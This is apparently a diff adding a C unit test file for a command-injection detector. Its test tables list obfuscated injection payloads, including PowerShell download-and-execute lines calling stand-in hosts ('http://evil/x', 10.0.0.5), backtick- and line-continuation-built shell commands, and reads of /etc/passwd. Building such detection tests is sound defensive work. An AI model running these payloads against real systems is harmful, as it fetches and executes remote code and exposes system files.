@@ -1,0 +1,124 @@
+/* test_payload_rtc6.c - issue 20, helper c (session 28): command
+ * injection rows of the review's open findings (rev6 E4, E5, E6) and of
+ * a fresh table's misses, one test per construct. Every value is judged
+ * as a query parameter value and as a form body (payload_rt_table.h): an
+ * attack must draw its own kind in both, a benign value nothing in
+ * either. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <string.h>
+
+#include "collector/detect/payload.h"
+
+#include "tests/unit/payload_rt_table.h"
+
+#define C PAYLOAD_CMDI
+#define N PAYLOAD_NONE
+
+/* a code call with blanks inside its parentheses or its list, a program
+ * named by its path, a probe in capitals for cmd.exe (rev6 E4); an
+ * interpreter given a script is a developer's (rev6 F5) */
+static void test_cmdi_code_call_blanks(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"os.system ( 'id')", C},
+		{"os.system (\t\"whoami\")", C},
+		{"subprocess.run (['/usr/bin/id'])", C},
+		{"subprocess.run ([ \"/bin/sh\", \"-c\", \"id\"])", C},
+		{"os.system ('WHOAMI')", C},
+		{"';os.system ( 'uname -a')#", C},
+		{"exec ('python manage.py migrate')", N},
+		{"exec ( 'python3 manage.py runserver 0.0.0.0:8000')", N},
+		{"subprocess.run ([\"/usr/bin/python3\", \"script.py\"])", N},
+		{"os.system ( 'clear')", N},
+	};
+	rt_run("cmdi-code-call-blanks", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* PowerShell runs what it fetched: a tab after the web cmdlet's alias,
+ * and Invoke-Expression reached by the call operators & and . on a
+ * computed name (rev6 E5): &(gcm i*x), & ('ie'+'x'), &$x */
+static void test_cmdi_ps_call_operator(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"IEX(iwr\thttp://evil/x)", C},
+		{"iex (irm\t10.0.0.5/x)", C},
+		{"&(gcm i*x)(New-Object Net.WebClient).DownloadString('http://evil/x')", C},
+		{".(gcm *ke-e*)(iwr http://10.0.0.5/y)", C},
+		{"&(Get-Command I*e-Ex*) ((New-Object Net.WebClient).DownloadString('http://10.0.0.5/y'))", C},
+		{"& ('ie'+'x') (irm http://10.0.0.5/y)", C},
+		{"$v='ie'+'x';&$v(irm http://10.0.0.5/y)", C},
+		{"Tom & (Jerry) (iwr is a PowerShell alias)", N},
+		{"& (Get-Process) | Select-Object Name", N},
+		{"R&D (irm team)", N},
+	};
+	rt_run("cmdi-ps-call-operator", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* a command word built in backticks, echo|rev or printf escapes: it
+ * runs where the backticks stand (rev6 E6) */
+static void test_cmdi_built_backtick(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"`echo imaohw|rev`", C},
+		{";`echo imaohw|rev`", C},
+		{"127.0.0.1`echo imaohw|rev`", C},
+		{"`printf '\\167\\150\\157\\141\\155\\151'`", C},
+		{"127.0.0.1|`echo tac|rev` /etc/passwd", C},
+		{"||`echo emanu|rev` -a", C},
+		{"run `echo hello|rev` to print olleh", N},
+		{"try `printf \"\\x41\"` in bash", N},
+	};
+	rt_run("cmdi-built-backtick", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* backslash-newline inside a word: the shell joins the lines */
+static void test_cmdi_line_continuation(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"42\nw\\\nhoami", C},
+		{"127.0.0.1`w\\\nhoami`", C},
+		{"x||c\\\nat /etc/passwd", C},
+		{"report.pdf'|u\\\nname -a", C},
+		{"127.0.0.1$(i\\\nd)", C},
+		{"line one \\\nline two", N},
+		{"C:\\temp\\\nnext", N},
+	};
+	rt_run("cmdi-line-continuation", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* PowerShell cmdlets by the approved verbs probes use (Test-, Resolve-),
+ * and .NET's process start called from PowerShell */
+static void test_cmdi_ps_cmdlets(void **st)
+{
+	(void)st;
+	static const struct rtcase t[] = {
+		{"; Test-Connection -Count 5 127.0.0.1", C},
+		{"; [System.Diagnostics.Process]::Start('calc')", C},
+		{"[Diagnostics.Process]::Start(\"cmd.exe\", \"/c whoami\")", C},
+		{"Test-Driven Development (TDD) by example", N},
+		{"System.Diagnostics.Process is the class; see its Start method", N},
+	};
+	rt_run("cmdi-ps-cmdlets", t, sizeof(t) / sizeof(t[0]));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_cmdi_code_call_blanks),
+		cmocka_unit_test(test_cmdi_ps_call_operator),
+		cmocka_unit_test(test_cmdi_built_backtick),
+		cmocka_unit_test(test_cmdi_line_continuation),
+		cmocka_unit_test(test_cmdi_ps_cmdlets),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
